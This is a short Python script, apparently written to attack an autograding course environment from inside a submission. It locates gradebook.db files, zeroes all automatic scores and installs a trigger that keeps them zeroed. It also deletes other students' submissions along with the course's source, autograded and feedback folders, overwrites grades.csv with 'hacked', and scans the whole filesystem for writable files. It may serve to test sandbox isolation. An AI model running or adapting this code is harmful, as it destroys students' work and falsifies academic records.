# Everything a grader's neighbour could do to the course: the gradebook (a trigger zeroing others),
# other students' submissions, source/, grades.csv, autograded/ and feedback/.
import glob
import os
import shutil
import sqlite3

for top in ["..", "../..", "../../..", "../../../..", "/work", "/tmp", "/home", "/root"]:
    for db in glob.glob(os.path.join(top, "**", "gradebook.db"), recursive=True)[:3]:
        con = sqlite3.connect(db)
        con.execute("UPDATE grade SET auto_score = 0")
        con.execute("CREATE TRIGGER IF NOT EXISTS z AFTER UPDATE ON grade BEGIN UPDATE grade SET auto_score = 0; END")
        con.commit()
    for pattern in ("submitted/*", "source/*", "autograded/*", "feedback/*"):
        for path in glob.glob(os.path.join(top, pattern))[:20]:
            shutil.rmtree(path, ignore_errors=True)
    for path in glob.glob(os.path.join(top, "**", "grades.csv"), recursive=True)[:3]:
        open(path, "w").write("hacked\n")
for root, dirs, files in os.walk("/"):
    if root.startswith(("/proc", "/sys", "/dev", "/usr")):
        dirs[:] = []
        continue
    for name in files:
        try:
            with open(os.path.join(root, name), "a") as f:
                f.write("")
            print("writable:", os.path.join(root, name))
        except OSError:
            pass
